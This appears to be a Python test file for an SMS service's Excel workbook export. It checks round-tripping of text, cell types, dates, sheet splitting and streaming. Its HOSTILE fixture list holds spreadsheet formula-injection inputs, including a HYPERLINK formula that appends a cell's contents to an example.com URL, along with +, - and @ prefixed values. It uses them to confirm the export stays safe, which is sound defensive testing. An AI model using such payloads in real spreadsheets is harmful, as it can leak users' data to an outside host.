"""An export as a workbook: read back by a program that nobody here wrote, and every part parsed as XML."""

import asyncio
import io
import re
import zipfile
from collections.abc import AsyncIterator
from contextlib import aclosing
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import uuid4
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.flow.conftest import World, inhabited
from ulak.admin.accounts import create_user
from ulak.admin.export import Piece, Wanted, open_
from ulak.base.db import Database
from ulak.edge import xlsx
from ulak.edge.export import COLUMNS, Chunk
from ulak.edge.xlsx import Book, chunks
from ulak.flow.accept import Request
from ulak.rules import ids
from ulak.rules.actor import Actor
from ulak.rules.tenancy import Context
from ulak.store.exports import Head, Row, Stretch

AT = datetime(2026, 3, 10, 10, 22, 31, 338_000, UTC)
HOSTILE = [
    '=HYPERLINK("https://example.com/?"&A1)',
    "+905550000000",
    "-2+3",
    "@SUM(1)",
    "00905551112233",
    "1e5",
    "TRUE",
    "He said \"hi\" & <b>'bye'</b> ]]>",
    "two\r\nlines\nand\ttabs\rand more",
    " spaces  around ",
    "\n",
    "control \x01\x08\x0b\x0c\x1f\x7f\x85 \ufffe\uffff",
    "_x0041_ _x000D_ _x00_ __x005F_x0001_ x0041_",
    "Şişli'de çay 5 € ☕ 👩‍👩‍👧 İıĞğ",
    "👩" * 160,
    "a" * 160,
    "\u200f\u202e rtl \u2028\u2029",
]
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=40)


def head(**columns: Any) -> Head:
    """A sending's."""
    its = {"id": ids.new_id(), "wanted": True, "n_messages": 1, "created_at": AT, "text": "merhaba"}
    its |= {"found": True, "source": "api", "sender": None, "username": "mark", "service": "BobSMS"}
    return Head(**(its | {"currency": "USD"} | columns))


def piece(of: Head, *texts: str | None, **columns: Any) -> Piece:
    """A piece with a message for each text."""
    its = {"status": "sent", "network": None, "price": 1_000_000, "refunded": False, "ended_at": AT} | columns
    rows = [Row(1, n, 905_550_000_000 + n, text, *its.values()) for n, text in enumerate(texts)]
    return Piece([Stretch(of, 0, len(rows))], rows, len(rows))


def book(*pieces: Piece) -> bytes:
    """A whole file."""
    its = Book()
    data = its.begin() + b"".join(map(its.add, pieces)) + its.end()
    its.close()
    return data


def unescaped(text: str | None) -> str | None:
    """As spreadsheets read a cell's text (ECMA-376, 22.9.2.19); openpyxl leaves it as it stands."""
    return text and re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def sheets(data: bytes) -> list[list[dict[str, Any]]]:
    """The rows of each sheet by the columns' names, after every part was parsed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
        types = archive.read("[Content_Types].xml").decode()
        assert all(
            f"/{name}" in types
            for name in archive.namelist()
            if name.startswith("xl/") and "_rels" not in name
        )
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(data), rich_text=False).worksheets:
        names, *rows = sheet.iter_rows(values_only=True)
        assert names == COLUMNS
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        found.append([dict(zip(COLUMNS, row, strict=True)) for row in rows])
    return found


def test_hostile_texts_come_back_exactly() -> None:
    [rows] = sheets(book(piece(head(), *HOSTILE)))

    assert [unescaped(row["message"]) for row in rows] == HOSTILE


@given(st.lists(TEXTS, min_size=1, max_size=5), TEXTS)
def test_any_text_comes_back_exactly(texts: list[str], shared: str) -> None:
    [rows] = sheets(book(piece(head(text=shared, username=shared), *texts, None)))

    assert [unescaped(row["message"]) for row in rows] == [*texts, shared]
    assert {unescaped(row["username"]) for row in rows} == {shared}


def test_the_cells_of_a_row_have_their_types() -> None:
    of = head(sender="ULAK")

    [[row, waiting]] = sheets(
        book(
            piece(of, None, price=42_500, refunded=True, network="286,01"),
            piece(of, "x", ended_at=None, status="waiting", price=0),
        )
    )

    assert tuple(row) == COLUMNS
    ms = timedelta(milliseconds=1)
    assert all(abs(row[name] - AT.replace(tzinfo=None)) < ms for name in ("createdAt", "endedAt"))
    assert row | {"createdAt": None, "endedAt": None} == {
        "createdAt": None,
        "to": "905550000000",
        "message": "merhaba",
        "status": "sent",
        "network": "286,01",
        "price": 0.0425,
        "currency": "USD",
        "refunded": True,
        "endedAt": None,
        "service": "BobSMS",
        "sender": "ULAK",
        "source": "api",
        "username": "mark",
        "sendingId": str(of.id),
        "id": str(ids.message_id(of.id, 0)),
    }
    assert (waiting["endedAt"], waiting["network"], waiting["price"]) == (None, "unknown", 0)
    assert waiting["refunded"] is False


@given(st.integers(0, 10**10).map(lambda ms: AT + timedelta(milliseconds=ms, microseconds=999)))
def test_a_date_is_that_moment_to_the_millisecond(at: datetime) -> None:
    found = re.search("<v>(.*)</v>", xlsx._date(at))

    assert found
    meant = datetime(1899, 12, 30, tzinfo=UTC) + timedelta(days=float(found[1]))
    assert abs(meant - at.replace(microsecond=at.microsecond // 1000 * 1000)) < timedelta(microseconds=50)


def test_what_a_sheet_cannot_hold_stands_on_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "SHEET_ROWS_MAX", 4)
    of = head()

    found = sheets(book(piece(of, *"abcde"), piece(of, "f"), piece(of, *"ghi")))

    assert [[row["message"] for row in rows] for rows in found] == [
        ["a", "b", "c"],
        ["d", "e", "f"],
        ["g", "h", "i"],
    ]


def test_a_sheet_of_many_bytes_ends_early(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "SHEET_BYTES_MAX", 4000)

    found = sheets(book(*[piece(head(), "x" * 160)] * 20))

    assert len(found) > 2
    assert sum(map(len, found)) == 20


def test_no_part_needs_zip64_and_a_sniffer_knows_what_it_is() -> None:
    data = book(piece(head(), "x"))

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    assert [info.filename for info in infos[:3]] == [
        "_rels/.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    ]
    assert {(info.extract_version, info.extra) for info in infos} == {(20, b"")}


@pytest.fixture
async def world(db: Database) -> AsyncIterator[World]:
    async with inhabited(db) as there_is:
        yield there_is


async def test_an_export_is_streamed_piece_by_piece(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ulak.admin.export.PIECE_MESSAGES_MAX", 4)
    user = await create_user(world.db, Actor("test"), "mark", "mark@example.com", None)
    who, service = Context(user.id), await world.service(42)
    await world.fund(who, 10**9)
    texts = [*(text for text in HOSTILE if not text.isspace()), "x"]
    numbers = [f"90555000{n:04d}" for n in range(len(texts))]
    await world.accept(Request(who, service, numbers, texts, "api"))

    export = await open_(world.db, "mark", None, Wanted())
    async with aclosing(chunks(export)) as its:
        found: list[Chunk] = [chunk async for chunk in its]

    [rows] = sheets(b"".join(chunk.data for chunk in found))
    assert [row["to"] for row in rows] == numbers
    assert [unescaped(row["message"]) for row in rows] == texts
    assert [chunk.rows for chunk in found] == [0, 4, 4, 4, 4, 1, 0]
    assert found[-1].looked_at == len(HOSTILE)


async def test_one_who_stops_reading_leaves_nothing_behind(world: World) -> None:
    await create_user(world.db, Actor("test"), "mark", f"{uuid4()}@example.com", None)
    export = await open_(world.db, "mark", None, Wanted())

    async with aclosing(chunks(export)) as its:
        await anext(its)

    empty = [chunk async for chunk in chunks(export)]
    assert sheets(b"".join(chunk.data for chunk in empty)) == [[]]
    await asyncio.sleep(0)
